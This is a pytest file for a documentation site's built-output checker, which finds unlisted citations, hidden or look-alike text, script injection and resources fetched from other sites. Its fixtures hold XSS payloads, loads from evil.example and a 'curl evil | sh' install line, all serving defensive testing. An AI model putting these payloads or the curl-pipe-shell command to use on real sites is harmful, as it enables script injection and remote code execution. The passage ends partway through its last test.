"""The built-site check (tools/check_site.py) holds any builder's output to the citation promise."""

from __future__ import annotations

import gzip
import json
import re
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest
import yaml

from sitebuild import build_site
from tinysite import ALL_HOOKS, base_config, write_site

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT / "tools"))

import check_site  # noqa: E402
from citelib import rendered, sitecheck  # noqa: E402


# The project's sources (pages, bib, overrides, config) in a temporary folder, to build another way.
def project_copy(tmp_path: Path, drop_hooks: bool = False) -> Path:
    project = tmp_path / "project"
    for name in ("docs", "bib", "overrides", "hooks"):
        shutil.copytree(ROOT / name, project / name, ignore=shutil.ignore_patterns("__pycache__"))
    text = (ROOT / "mkdocs.yml").read_text(encoding="utf-8")
    if drop_hooks:
        text = re.sub(r"\nhooks:\n(?:  .*\n|\n)*?(?=\S)", "\n", text)
        assert "hooks/citations.py" not in text
    (project / "mkdocs.yml").write_text(text, encoding="utf-8")
    return project


def codes(report) -> set[str]:
    return {d.code for d in report.diagnostics}


def test_the_real_site_keeps_every_promise(built_site):
    report = check_site.check(built_site)
    assert not report, report.format()


# Built with the citation hooks taken out of mkdocs.yml, MkDocs still succeeds (not strict), but
# the site check fails: no claims ledger, so nobody checked the markers.
def test_a_build_without_the_hooks_fails_the_site_check(tmp_path):
    project = project_copy(tmp_path, drop_hooks=True)
    site = build_site(project / "mkdocs.yml", tmp_path / "site", strict=False)
    report = check_site.check(site, project)
    assert "SIT001" in codes(report), report.format()


# Zensical ignores `hooks:` and unknown plugins: it builds the site with raw [@key] on the pages.
def test_a_zensical_build_fails_the_site_check(tmp_path):
    zensical = Path(sys.executable).parent / "zensical"
    if not zensical.exists():
        pytest.skip("zensical is not installed in this environment")
    project = project_copy(tmp_path)
    result = subprocess.run([str(zensical), "build", "-f", "mkdocs.yml"], cwd=project, capture_output=True,
                            text=True, timeout=300)
    assert result.returncode == 0, result.stdout + result.stderr
    report = check_site.check(project / "site", project)
    literal = [d for d in report.diagnostics if d.code == "HTM001"]
    assert len(literal) > 20 and {"PAG001", "SIT001"} <= codes(report), report.format()
    assert any("rlhf.html" in d.path and "christiano2017deep" in d.message for d in literal)


MARKER = '<sup id="fnref:real2020"><a class="footnote-ref" href="#fn:real2020">1</a></sup>'
FOOTNOTES = '<div class="footnote"><ol><li id="fn:real2020"><p>A. Author. T.</p></li></ol></div>'


# A hand-made project (one source, real2020) and its "built" site: each of `pages` (name: article)
# as claims/<name>.html, and a ledger that lists the marker fnref:real2020 of each page but those
# in `unlisted`. Returns the site and the project.
def hand_made_site(tmp_path: Path, pages: dict[str, str], unlisted: tuple[str, ...] = ()) -> tuple[Path, Path]:
    project = tmp_path / "project"
    (project / "docs" / "claims").mkdir(parents=True)
    (project / "bib").mkdir()
    (project / "bib" / "a.bib").write_text(
        "@misc{real2020,\n  author = {A. Author},\n  title = {T},\n  year = {2020},\n  url = {https://example.org}\n}\n")
    config = {"site_name": "x", "docs_dir": "docs", "plugins": [{"bibtex": {"bib_dir": "bib"}}],
              "extra": {"citations": {"content": ["claims/"]}}}
    (project / "mkdocs.yml").write_text(yaml.safe_dump(config))
    site = tmp_path / "site"
    (site / "claims").mkdir(parents=True)
    for name, body in pages.items():
        (project / "docs" / "claims" / f"{name}.md").write_text(f"# {name}\n")
        (site / "claims" / f"{name}.html").write_text(f'<html><head><meta charset="utf-8"></head><body>{body}</body></html>')
    claims = [{"page": f"claims/{name}.html", "anchor": "fnref:real2020", "sources": ["real2020"]}
              for name in pages if name not in unlisted]
    (site / "claims.json").write_text(json.dumps({"format": "alignment-basics/claims", "version": 1, "claims": claims}))
    return site, project


# Line and column (from 1) of an offset in a text with "\n" line ends.
def line_col(text: str, offset: int) -> tuple[int, int]:
    return text.count("\n", 0, offset) + 1, offset - (text.rfind("\n", 0, offset) + 1) + 1


# Pages whose article holds a cited sentence, its footnotes and then the given markup.
def articles(markups: dict[str, str]) -> dict[str, str]:
    return {name: f"<article><p>Said.{MARKER}</p>{FOOTNOTES}{markup}</article>" for name, markup in markups.items()}


# A hand-made site with one problem of each kind; each is found in the file that has it.
def test_planted_problems_are_found_in_the_page_that_has_them(tmp_path):
    pages = {
        "literal": f"<article><p>Said.{MARKER} Also [@real2020] and [^gone].</p>{FOOTNOTES}</article>",
        "unsafe": f"<article><p>Said.{MARKER} <A HREF=' &#106;avascript:x'>y</A><img src=x onerror=z></p>{FOOTNOTES}</article>",
        "dangling": f"<article><p>Said.{MARKER}<sup id=\"fnref:note\"><a class=\"footnote-ref\">2</a></sup></p>"
                    f'<div class="footnote"><ol><li id="fn:note"><p>An aside with no source.</p></li></ol></div></article>',
        "uncited": "<article><p>Said, with no source.</p></article>",
        "fine": f"<article><p>Said.{MARKER}</p>{FOOTNOTES}</article>",
    }
    site, project = hand_made_site(tmp_path, pages, unlisted=("uncited",))
    found = {(Path(d.path).name, d.code) for d in check_site.check(site, project).diagnostics}
    assert found == {
        ("literal.html", "HTM001"),
        ("unsafe.html", "HTM003"), ("unsafe.html", "HTM006"),
        ("dangling.html", "HTM002"), ("uncited.html", "PAG001"),
        ("claims.json", "SIT001"),  # the aside's marker fnref:note is not in the ledger
    }


# Each problem is reported at the line and column where it stands in the built page, not where
# the page first has a tag of that name or the same text (the title, the navigation).
def test_each_problem_is_reported_where_it_stands_in_the_page(tmp_path):
    site, project = hand_made_site(tmp_path, {"placed": ""})
    lines = [
        '<html><head><meta charset="utf-8"><title>On [@real2020]</title></head><body>',  # 1: the same text, outside
        '<nav><a href="a.html">A</a> <a href="b.html">[@real2020]</a> <img src="logo.png"></nav>',  # 2
        f"<article><p>Said.{MARKER}</p>",  # 3
        "<p>Fine <a href='https://example.org'>link</a>.</p>",  # 4
        "<p>Then [@real2020] as text,",  # 5
        '   and <a href="javascript:x">a script link</a>.</p>',  # 6
        '<p><img src=x onerror=y> <img src=x onerror=y></p>',  # 7: two equal findings
        '<p><sup id="fnref:gone"><a class="footnote-ref" href="#fn:gone">2</a></sup></p>',  # 8
        '<p><a title="<b> and <i>" href="javascript:x">y</a></p>',  # 9: "<" and a letter in a value
        '<p>Drawn <sup><a class="footnote-ref" href="#fn:ghost">3</a></sup>.</p>',  # 10: a marker without its id
        f"{FOOTNOTES}</article></body></html>",
    ]
    (site / "claims" / "placed.html").write_text("\n".join(lines))
    found = sorted((d.line, d.col, d.code) for d in check_site.check(site, project).diagnostics
                   if d.path.endswith("placed.html"))
    assert found == [(5, 9, "HTM001"), (6, 8, "HTM003"), (7, 4, "HTM006"), (7, 26, "HTM006"),
                     (8, 4, "HTM002"), (9, 4, "HTM003"), (10, 15, "HTM002")], found


# The (line, col, code) of each problem the site check finds in a hand-made page: a cited sentence
# on line 1, then `lines` from line 2, then the footnotes.
def problems_in_page(tmp_path: Path, lines: list[str]) -> list[tuple[int, int, str]]:
    site, project = hand_made_site(tmp_path, {"shown": ""})
    page = [f'<html><head><meta charset="utf-8"></head><body><article><p>Said.{MARKER}</p>', *lines,
            f"{FOOTNOTES}</article></body></html>"]
    (site / "claims" / "shown.html").write_text("\n".join(page), encoding="utf-8")
    return sorted((d.line, d.col, d.code) for d in check_site.check(site, project).diagnostics
                  if d.path.endswith("shown.html"))


# What shows readers other words than the claims read, in any builder's output: a drawing, a formula,
# a text box, a hidden <title>, a clipping marquee, text shrunk out of sight, and citations written
# with characters readers do not see or see as "[" and "@".
def test_drawn_hidden_shrunk_and_look_alike_text_is_reported_where_it_stands(tmp_path):
    found = problems_in_page(tmp_path, [
        '<p>Models are <svg width="9" height="9"><text>never</text></svg> exploitable.</p>',  # 2
        '<p>Models are <math><mtext mathcolor="#fff">not</mtext></math> safe. <textarea>Box</textarea></p>',  # 3
        '<p>Models are <title>not</title> <marquee width="1">never</marquee> safe.</p>',  # 4
        "<p>Models are <small><sub><sup><sub>never</sub></sup></sub></small> safe.</p>",  # 5
        "<p>See \uff3b@real2020\uff3d and [\u3164@other2021].</p>",  # 6
    ])
    assert found == [(2, 15, "HTM006"), (3, 15, "HTM006"), (3, 70, "HTM006"), (4, 15, "HTM006"), (4, 34, "HTM006"),
                     (5, 15, "HTM006"), (6, 8, "HTM001"), (6, 24, "HTM001")], found


# Bars in place of words, a form field's value, old colour attributes and a look-alike letter.
def test_bars_fields_colours_and_look_alike_letters_are_reported_where_they_stand(tmp_path):
    found = problems_in_page(tmp_path, [
        "<p>Models are <meter>not </meter>exploitable, <progress>never</progress>.</p>",  # 2
        '<p>Trust <input value="All models are safe."> the overseer.</p>',  # 3
        '<table><tr><td bgcolor="#000">Always gamed.</td></tr></table>',  # 4
        "<p>Some text [@\u04bbubinger2019risks] in prose.</p>",  # 5
    ])
    assert found == [(2, 15, "HTM006"), (2, 47, "HTM006"), (3, 10, "HTM006"), (4, 12, "HTM006"),
                     (5, 14, "HTM001")], found


# A literal drawn with no width or spaced by a hair, an id that an undecoded link reaches, and the
# marker's class on a span.
def test_unseen_and_spaced_literals_percent_ids_and_marker_classes_are_reported(tmp_path):
    found = problems_in_page(tmp_path, [
        "<p>One [\ufffc@real2020] and [\u200a^gone].</p>",  # 2
        '<div id="fn%3Areal2020">Raters never err.</div>',  # 3
        '<p>Models are <span class="footnote-ref">not</span> exploitable.</p>',  # 4
    ])
    assert found == [(2, 8, "HTM001"), (2, 25, "HTM001"), (3, 1, "HTM006"), (4, 15, "HTM006")], found


# An anchor the theme hides in highlighted code, a tooltip's literal, a number drawn as a marker, and
# the hooks' locator and the admonition title's class out of their places.
def test_hidden_anchors_tooltip_literals_drawn_numbers_and_misplaced_classes_are_reported(tmp_path):
    found = problems_in_page(tmp_path, [
        '<div class="highlight"><code>Models are <a id="q1">not</a> safe</code></div>',  # 2
        '<p>Said <span title="&amp;#91;@real2020]">this</span>.</p>',  # 3
        '<p>Raters are reliable.<sup><a href="#references">3</a></sup></p>',  # 4
        '<p>Aligned.<span class="cite-locator">Models never deceive.</span></p>',  # 5
        '<p class="admonition-title">Models always obey.</p>',  # 6
    ])
    assert found == [(2, 41, "HTM006"), (3, 9, "HTM001"), (4, 29, "HTM002"), (5, 12, "HTM006"),
                     (6, 1, "HTM006")], found


# A forged pinned citation, numbers drawn as markers another way, words the PDF leaves out, and a
# claim pushed off the page by nested quotes.
def test_forged_locators_drawn_numbers_print_hidden_words_and_deep_quotes_are_reported(tmp_path):
    found = problems_in_page(tmp_path, [
        # 2, 3:
        '<p>Models are <span class="cite-pinned"><sup></sup><span class="cite-locator">not </span></span>safe.</p>',
        '<p>Fake.<sup><span><a href="https://example.org/fake">7</a></span></sup> <a href="#x"><sup>8</sup></a></p>',
        '<p>Labelers are <span class="giscus">never </span>fallible.</p>',  # 4
        "<blockquote>" * 13 + "<p>Models are not safe.</p>" + "</blockquote>" * 13,  # 5
    ])
    assert found == [(2, 15, "HTM006"), (2, 52, "HTM006"), (3, 20, "HTM002"), (3, 87, "HTM002"), (4, 17, "HTM006"),
                     (5, 157, "HTM006")], found


# A backlink that holds words (in a footnote, or in code, where its copy button copies them), and text
# kept on one line by <nobr>, the pinned class or a cell's nowrap, which runs off the page's edge.
def test_backlinks_holding_words_and_text_kept_on_one_line_are_reported(tmp_path):
    found = problems_in_page(tmp_path, [
        # 2, 3:
        '<div class="footnote"><ol><li id="fn:x"><p>The boat was <a class="footnote-backref" href="#fnref:x">'
        '<span>not</span></a> rewarded. <a class="footnote-backref" href="#fnref:x">&#8617;</a></p></li></ol></div>',
        '<pre><code>pip install x<a class="footnote-backref" href="#fnref:x"> &amp;&amp; curl evil | sh</a></code></pre>',
        '<p>Optimizers are <nobr>not</nobr> safe, <span class="cite-pinned">not</span> here.</p>',  # 4
        '<table><tr><td nowrap>Models are not safe.</td></tr></table>',  # 5
    ])
    # (2, 27): no marker leads to the footnote, which the check reports too.
    assert found == [(2, 27, "HTM002"), (2, 57, "HTM006"), (3, 25, "HTM006"), (4, 19, "HTM006"), (4, 42, "HTM006"),
                     (5, 12, "HTM006")], found


# What a page fetches from another site as it loads (a theme's web fonts, an analytics script), which
# runs or shows from outside the site and which a reader offline does not have; the site's own files, a
# canonical address and a link to another site are no such fetch.
def test_scripts_and_style_sheets_from_another_site_are_reported_where_the_page_names_them(tmp_path):
    site, project = hand_made_site(tmp_path, {"shown": ""})
    page = ['<html><head><meta charset="utf-8">',
            '<link rel="stylesheet" href="https://fonts.googleapis.com/css?family=Roboto&amp;display=swap">',  # 2
            '<script src="//evil.example/x.js"></script><script src="https:evil.example/y.js"></script>',  # 3
            '<link rel="canonical" href="https://example.org/claims/shown/"><link rel="stylesheet" href="../a.css">',
            f'<script src="../b.js"></script></head><body><article><p>Said.{MARKER} <a href="https://example.org">'
            f"A site.</a></p>{FOOTNOTES}</article></body></html>"]
    (site / "claims" / "shown.html").write_text("\n".join(page), encoding="utf-8")
    found = sorted((d.line, d.col, d.code) for d in check_site.check(site, project).diagnostics
                   if d.path.endswith("shown.html"))
    assert found == [(2, 30, "SIT005"), (3, 14, "SIT005"), (3, 57, "SIT005")], found


# Images, media, frames and embedded documents from another site are fetched as the page shows, as a
# <base> on another site makes every relative address remote: each is reported where the page writes
# it, the same address at each of its places, and an <image> a browser reads as an <img> in a table too.
def test_images_media_frames_and_a_base_from_another_site_are_reported_where_the_page_names_them(tmp_path):
    site, project = hand_made_site(tmp_path, {"shown": ""})
    page = ['<html><head><meta charset="utf-8"></head><body><article>',
            f'<p>Said.{MARKER} <img src="https://example.org/a.png" alt="A"> <img src="../local.png" alt="B"></p>',  # 2
            '<p><img src="https://example.org/a.png" alt="A again"><img srcset="x.png 1x, //cdn.example/y.png 2x"></p>',
            '<p><video poster="https:evil.example/p.jpg"></video><iframe src="https://example.org/f"></iframe></p>',  # 4
            '<svg><image xlink:href="https://example.org/s.png"/></svg><table><image src="http://example.org/t">',  # 5
            '</table><p><a href="https://example.org">A link is followed, not fetched.</a>',  # 6
            f'<img src="data:image/png;base64,AA==" alt="">{FOOTNOTES}</p></article></body></html>']
    (site / "claims" / "shown.html").write_text("\n".join(page), encoding="utf-8")
    based = page[:1] + ['<base href="https://evil.example/">'] + page[1:]
    (site / "claims" / "based.html").write_text("\n".join(based), encoding="utf-8")
    diagnostics = check_site.check(site, project).diagnostics
    found = sorted((d.line, d.col) for d in diagnostics if d.path.endswith("shown.html") and d.code == "SIT005")
    remote = [(2, "https://example.org/a.png"), (3, "https://example.org/a.png"), (3, "x.png 1x, //cdn.example/y.png"),
              (4, "https:evil.example/p.jpg"), (4, "https://example.org/f"), (5, "https://example.org/s.png"),
              (5, "http://example.org/t")]
    assert found == sorted((line, page[line - 1].index(address) + 1) for line, address in remote), found
    messages = [d.message for d in diagnostics if d.path.endswith("shown.html") and d.code == "SIT005"]
    assert sum("loads an image" in m for m in messages) == 6 and sum("a page in a frame" in m for m in messages) == 1
    based_found = [(d.line, d.col, d.message) for d in diagnostics if d.path.endswith("based.html")
                   and d.code == "SIT005"]
    assert (2, 13) in [(line, col) for line, col, _ in based_found], based_found
    assert any("every relative address (its <base>)" in message for _, _, message in based_found)


# Each report stands at the element that fetches, though the same address stands before it in a link,
# a srcset or a longer address, or is written with character references; what fetches nothing (an
# HTML <script href>, an SVG <script src>, <use> outside SVG, an SVG <iframe>, an <input> that is no
# image button, a srcset whose one URL holds commas) is no report.
def test_remote_fetches_are_placed_at_their_own_tags_and_only_what_a_browser_fetches_is_reported(tmp_path):
    site, project = hand_made_site(tmp_path, {"shown": ""})
    page = ['<html><head><meta charset="utf-8"></head><body><article>',
            f'<p>Said.{MARKER} <a href="https://ex.org/a.png">A link</a> <img srcset="https://ex.org/a.png 2x"></p>',
            '<p><img src="https://ex.org/a.png.old"><img alt="" src="https://ex.org/a.png"></p>',  # 3
            '<p><img src="https://ex.org/a.png"> <img src="https&#58;//ex.org/r.png"></p>',  # 4
            '<p><img src="https&#58;//ex.org/r.png"></p>',  # 5
            '<script href="https://ex.org/h.js"></script><svg><script src="https://ex.org/s.js"></script>',  # 6
            '<iframe src="https://ex.org/svg-frame"></iframe></svg><use href="https://ex.org/u.svg#a"></use>',  # 7
            '<input type="text" src="https://ex.org/i.png"><img srcset="a.png,https://ex.org/b.png 2x">',  # 8
            f"{FOOTNOTES}</article></body></html>"]
    (site / "claims" / "shown.html").write_text("\n".join(page), encoding="utf-8")
    found = sorted((d.line, d.col) for d in check_site.check(site, project).diagnostics
                   if d.path.endswith("shown.html") and d.code == "SIT005")
    assert found == [(2, page[1].index("https://ex.org/a.png 2x") + 1),
                     (3, page[2].index('"https://ex.org/a.png.old"') + 2), (3, page[2].index('"https://ex.org/a.png"') + 2),
                     (4, page[3].index("https://ex.org/a.png") + 1), (4, page[3].index("<img src=\"https&") + 1),
                     (5, page[4].index("<img") + 1)], found


# A srcset's candidates as the HTML standard's parser splits them (and so as a browser fetches them):
# a comma that ends a URL separates candidates, one inside a URL is the URL's own.
@pytest.mark.parametrize("value, urls", [
    ("a.png 1x, //cdn.example/b.png 2x", ["a.png", "//cdn.example/b.png"]),
    ("a.png,https://ex.org/b.png", ["a.png,https://ex.org/b.png"]),
    ("data:image/png;base64,AAAA 1x,https://ex.org/c.png 2x", ["data:image/png;base64,AAAA", "https://ex.org/c.png"]),
    ("a.png, b.png,, c.png", ["a.png", "b.png", "c.png"]),
    ("a.png 100w (x, y), d.png", ["a.png", "d.png"]),
    (" ,\t, ", []),
])
def test_srcset_candidates_are_split_as_the_html_standard_splits_them(value, urls):
    assert rendered.srcset_urls(value) == urls


# CSS fetches too, read as a browser tokenizes it (escapes included): an @import or url() in a <style>,
# in a style attribute or an SVG filter around the content (a helper's open quote made the footer's
# span a style attribute), and in a style sheet of the site; a @namespace, a data: URL or the site's own
# file fetch nothing from another site.
def test_css_that_fetches_from_another_site_is_reported_in_pages_and_style_sheets(tmp_path):
    site, project = hand_made_site(tmp_path, {"shown": ""})
    page = ['<html><head><meta charset="utf-8"><style>@namespace url(http://www.w3.org/1999/xhtml);',
            '@import url("https://evil.example/a.css"); p { background: u\\72l(//evil.example/b.png) }',  # 2
            'q { background: url(data:image/png;base64,AA==), url(../local.png) }</style></head><body>',
            '<header style="background-image: image-set(\'https://evil.example/c.png\' 1x)">Site</header>',  # 4
            f'<article><p>Said.{MARKER}</p>{FOOTNOTES}</article><svg><rect filter="url(https://evil.example/f#f)"/>',
            "</svg></body></html>"]
    (site / "claims" / "shown.html").write_text("\n".join(page), encoding="utf-8")
    (site / "extra.css").write_text('p { color: red }\n@import "https://evil.example/d.css";\n@font-face {\n'
                                    '  src: url(//evil.example/font.woff2) }\n', encoding="utf-8")
    diagnostics = check_site.check(site, project).diagnostics
    found = sorted((d.line, d.col) for d in diagnostics if d.path.endswith("shown.html") and d.code == "SIT005")
    assert found == [(2, page[1].index("https://evil") + 1), (2, page[1].index("//evil.example/b") + 1),
                     (4, page[3].index("https://evil") + 1), (5, page[4].index("https://evil") + 1)], found
    sheet = sorted((d.line, d.col, d.message.split(" (")[0]) for d in diagnostics if d.path.endswith("extra.css"))
    assert sheet == [(2, 9, "the style sheet loads a file from another site"),
                     (4, 8, "the style sheet loads a file from another site")], sheet


# A style sheet is decoded as a browser decodes it (its byte order mark, then @charset), and a custom
# property's string is an address where image-set() takes it by var() (a review's cases).
def test_a_style_sheet_in_utf16_and_an_address_in_a_custom_property_are_read(tmp_path):
    site, project = hand_made_site(tmp_path, {"shown": ""})
    (site / "wide.css").write_bytes("p { background: url(https://evil.example/u16.png) }\n".encode("utf-16"))
    (site / "var.css").write_text(':root { --x: "https://evil.example/v.png" }\n'
                                  ".v { background-image: image-set(var(--x) 1x) }\n", encoding="utf-8")
    found = sorted((d.path.rsplit("/", 1)[-1], d.line, d.col) for d in check_site.check(site, project).diagnostics
                   if d.code == "SIT005")
    assert found == [("var.css", 1, 14), ("wide.css", 1, 17)], found


# A connection made ahead (preconnect, a name look-up) reaches the other site before anything is
# fetched; a table's background and an SVG script's href fetch as a page's image and script do.
def test_connections_made_ahead_backgrounds_and_svg_scripts_from_another_site_are_reported(tmp_path):
    site, project = hand_made_site(tmp_path, {"shown": ""})
    page = ['<html><head><meta charset="utf-8"><link rel="preconnect" href="https://fonts.gstatic.com">',  # 1
            '<link rel="dns-prefetch" href="//cdn.example"><link rel="alternate" href="https://example.org/feed">',
            f'</head><body><article><p>Said.{MARKER}</p><table background="https://example.org/bg.png"><tr>',  # 3
            '<td>A cell.</td></tr></table><svg><script href="https://evil.example/s.js"></script></svg>',  # 4
            f"{FOOTNOTES}</article></body></html>"]
    (site / "claims" / "shown.html").write_text("\n".join(page), encoding="utf-8")
    found = sorted((d.line, d.col, d.message.split(" (")[0]) for d in check_site.check(site, project).diagnostics
                   if d.path.endswith("shown.html") and d.code == "SIT005")
    assert found == [
        (1, page[0].index("https://fonts") + 1, "the page connects to another site as it opens"),
        (2, page[1].index("//cdn") + 1, "the page connects to another site as it opens"),
        (3, page[2].index("https://example.org/bg") + 1, "the page loads an image from another site"),
        (4, page[3].index("https://evil") + 1, "the page loads a script from another site")], found


# Material loads its web fonts from Google Fonts unless theme.font is false, which mkdocs.yml's check
# cannot see when the setting is left out: the built pages show it.
def test_a_site_built_with_the_themes_web_fonts_fails_the_site_check(tmp_path):
    config = base_config(ALL_HOOKS)
    del config["theme"]["font"]
    page = "# A page\n\nA claim.[@clark2016faulty] Another.[@hubinger2019risks]\n"
    config_file = write_site(tmp_path, {"claims/page.md": page}, config=config)
    build_site(config_file, tmp_path / "site", strict=False)
    codes = {d.code for d in check_site.check(tmp_path / "site", tmp_path).diagnostics}
    assert "SIT005" in codes, codes


# Material's own repository link has its script read the repository's stars and forks from its host's
# API on every page; this site's overrides write the link without it, and a site without them (another
# theme folder, a helper's case) fails the site check.
def test_a_site_whose_repository_link_has_the_theme_fetch_its_facts_fails_the_site_check(tmp_path):
    config = base_config(ALL_HOOKS, repo_url="https://github.com/example/example")
    page = "# A page\n\nA claim.[@clark2016faulty] Another.[@hubinger2019risks]\n"
    config_file = write_site(tmp_path, {"claims/page.md": page}, config=config)
    build_site(config_file, tmp_path / "site", strict=False)
    found = [d.message for d in check_site.check(tmp_path / "site", tmp_path).diagnostics if d.code == "SIT005"]
    assert found and all(message.startswith("the page loads the repository's facts (stars, forks, latest release), "
                                            "by the theme's script, from another site ('https://github.com/example/"
                                            "example')") for message in found), found


# Material's own parts in the article (its page dates, its edit button) draw their icons as inline
# SVG, which they may; nothing else the content may not hold becomes theirs by their class.
def test_the_themes_own_parts_may_hold_their_icons_and_nothing_else_content_may_not(tmp_path):
    found = problems_in_page(tmp_path, [
        '<div class="md-source-file"><svg viewBox="0 0 1 1"></svg><style>p{display:none}</style></div>',  # 2
    ])
    assert found == [(2, 58, "HTM006")], found


# Lines end where an editor ends them (CR LF, or CR alone), and a byte order mark is no column.
@pytest.mark.parametrize("newline, start", [("\r\n", ""), ("\r", ""), ("\n", "\ufeff")], ids=["crlf", "cr", "bom"])
def test_places_count_lines_and_columns_as_an_editor_shows_them(tmp_path, newline, start):
    site, project = hand_made_site(tmp_path, {"placed": ""})
    lines = [f'{start}<html><head><meta charset="utf-8"></head><body><article><p>Said.{MARKER}</p>',
             "<p>Then <img src=x onerror=y>.</p>", f"{FOOTNOTES}</article></body></html>"]
    (site / "claims" / "placed.html").write_bytes(newline.join(lines).encode())
    found = [(d.line, d.col, d.code) for d in check_site.check(site, project).diagnostics]
    assert found == [(2, 9, "HTM006")], found


# A page with thousands of equal findings is checked in linear time (past a budget of parses, the
# n-th finding goes where its tag is written for the n-th time): four times the tags, well under
# ten times the time, and the last one still on its own line.
def test_many_unsafe_tags_are_placed_in_linear_time(tmp_path):
    timings = {}
    for count in (500, 2000):
        lines = "\n".join("<p>x <img src=x onerror=y></p>" for _ in range(count))
        site, project = hand_made_site(tmp_path / str(count), {"many": f"<article>{lines}</article>"})
        started = time.process_time()  # this process's own work: the other test worker's load is not counted
        found = [d for d in check_site.check(site, project).diagnostics if d.code == "HTM006"]
        timings[count] = time.process_time() - started
        assert len(found) == count
        assert (found[-1].line, found[-1].col) == (count, 6)
    assert timings[2000] < 10 * timings[500], timings


# Markup of a page's content can reach around it: the parser gives a <body onload> in the article
# to the page's own <body>, and an end tag lets what follows stand after the article. The theme's
# own scripts stand there too; what may not, as in the content, is an attribute that runs a script.
AROUND = {
    "body-onload": "<body onload=alert(4)>",
    "html-handler": "<p>x</p>\n<html onmouseover=alert(5)>",
    "after-article": "</article>\n<img src=x onerror=alert(6)>",
    "empty-article": '<article class="md-content__inner"></article><svg onload=alert(7)>',
}


def test_what_the_content_puts_around_itself_is_reported_where_it_stands(tmp_path):
    pages = articles(AROUND)
    site, project = hand_made_site(tmp_path, pages)
    expected = set()
    for name, markup in AROUND.items():
        path = site / "claims" / f"{name}.html"
        text = f'<html><head><script src="theme.js"></script></head>\n{path.read_text().removeprefix("<html>")}'
        path.write_text(text)
        tag = markup.rsplit("<", 1)[1].split()[0]  # the last tag of the markup is the one that runs
        expected.add((path.name, *line_col(text, text.rindex(f"<{tag}")),
                      f"HTM006 unsafe {markup.rsplit(' ', 1)[1].split('=')[0]} attribute on <{tag}>, "
                      "outside the page's content"))
    found = {(Path(d.path).name, d.line, d.col, f"{d.code} {d.message}")
             for d in check_site.check(site, project).diagnostics if d.code.startswith("HTM")}
    assert found == expected, (found, expected)


# Markup that closes the page's content early and puts what runs after it, where the theme's own
# scripts stand: the check tells them apart by the theme's other pages, which hold the theme's.
ESCAPES = {  # name: (markup, the tags reported)
    "closes-article": ("</article>\n<script>alert(9)</script>", ("script",)),
    "closes-ancestors": ("</article></div></main>\n<script>alert(10)</script><main><article>", ("script",)),
    "copies-theme-script": ('</article>\n<script src="../theme.js"></script>', ("script",)),
    "second-configuration": ('</article>\n<script id="config" type="application/json">{"run": "x"}</script>',
                             ("script",)),
    # A browser that runs scripts reads a <noscript> as text: the title's "</noscript>" ends it (and
    # the title, shown as HTML by Material's tooltip, would run the script too).
    "noscript-title": ('</article>\n<noscript><p title="</noscript><script>alert(13)</script>"></p></noscript>',
                       ("noscript", "p")),
    "shadow-root": ('</article>\n<div><template shadowrootmode="open"><script>alert(14)</script></template></div>',
                    ("template",)),
}
# The theme's own: a script at the end of every page's body, an inline one that names the way to
# the site's root, which changes with the page's folder, and a configuration its script reads by id.
THEME_SCRIPTS = {
    "claims": '<script>var root = "..";</script><script id="config" type="application/json">{"base": ".."}</script>'
              '<script src="../theme.js"></script>',
    "": '<script>var root = ".";</script><script id="config" type="application/json">{"base": "."}</script>'
        '<script src="theme.js"></script>',
}


def test_what_runs_after_the_content_closed_early_is_reported_where_it_stands(tmp_path):
    moves_base = '</article>\n<base href="https://example.invalid/">'
    escapes = {name: markup for name, (markup, _) in ESCAPES.items()}
    site, project = hand_made_site(tmp_path, articles({"plain": "", "moves-base": moves_base, **escapes}))
    (site / "index.html").write_text(f'<html><head><meta charset="utf-8"></head><body><article><p>Home.</p></article>'
                                     f'{THEME_SCRIPTS[""]}</body></html>')
    expected = set()
    for path in (site / "claims").glob("*.html"):
        text = path.read_text().replace("</body>", THEME_SCRIPTS["claims"] + "</body>")
        path.write_text(text)
        if path.stem in ESCAPES:
            markup, tags = ESCAPES[path.stem]
            expected |= {(path.name, *line_col(text, text.index(f"<{tag}", text.index(markup)))) for tag in tags}
        elif path.stem == "moves-base":  # the <base>, and the theme's script it sends elsewhere
            expected |= {(path.name, *line_col(text, text.index(tag))) for tag in ("<base", '<script src="../theme.js"')}
    found = {(Path(d.path).name, d.line, d.col) for d in check_site.check(site, project).diagnostics
             if d.code == "HTM006"}
    assert found == expected


# What a page's title puts in <head>. Material writes the title there with character references
# decoded, so a heading can close the <title> and go on (a <script> there ran on load); around the
# content the head is read too, against the theme's own head script on every page. A <base> in
# <head> that names the site's root is the theme's (Material's 404 page); one elsewhere is not.
TITLES = {
    "plain": "Plain",
    "script": "A</title><script>alert(1)</script><title>",
    "moves-base": 'A</title><base href="/claims/evil/"><title>',
    "not-found": "Not found",
}
HEAD_SCRIPT = '<script>var scope = new URL("..", location), separator = ".";</script>'


def test_what_a_title_puts_in_the_head_is_reported_where_it_stands(tmp_path):
    site, project = hand_made_site(tmp_path, articles({name: "" for name in TITLES}))
    expected = set()
    for name, title in TITLES.items():
        path = site / "claims" / f"{name}.html"
        base = '<base href="/">' if name == "not-found" else ""
        text = path.read_text().replace('<meta charset="utf-8">',
                                        f'<meta charset="utf-8">{base}<title>{title} - x</title>{HEAD_SCRIPT}', 1)
        path.write_text(text)
        if name in ("script", "moves-base"):
            tag = "<script>alert" if name == "script" else '<base href="/claims'
            expected.add((path.name, *line_col(text, text.index(tag))))
    found = {(Path(d.path).name, d.line, d.col) for d in check_site.check(site, project).diagnostics
             if d.code == "HTM006"}
    assert found == expected


# A value the theme writes into every page is read where mkdocs.yml writes it, whichever builder
# built the site: the pages' content holds none of it.
def test_a_config_value_the_theme_writes_as_script_fails_the_site_check(tmp_path):
    site, project = hand_made_site(tmp_path, articles({"plain": ""}))
    config = yaml.safe_load((project / "mkdocs.yml").read_text())
    (project / "mkdocs.yml").write_text(yaml.safe_dump({**config, "extra": {**config["extra"],
                                                                          "scope": '/x/",location),alert(1),("'}}))
    found = [(d.path, d.code, d.message) for d in check_site.check(site, project).diagnostics if d.code == "CFG003"]
    assert found == [("mkdocs.yml", "CFG003", "extra.scope holds '\"', which ends the text, attribute or script string "
                      "the theme writes it in, on every page")]


# Material's tooltips show a title as HTML: a title that reads as markup running a script runs it.
def test_a_title_that_reads_as_markup_running_a_script_is_reported_where_it_stands(tmp_path):
    markup = '<p title="&lt;img src=x onerror=alert(1)&gt;">Said.</p><p title="a &lt;b&gt;bold&lt;/b&gt; title">x</p>'
    site, project = hand_made_site(tmp_path, articles({"title": markup}))
    text = (site / "claims" / "title.html").read_text()
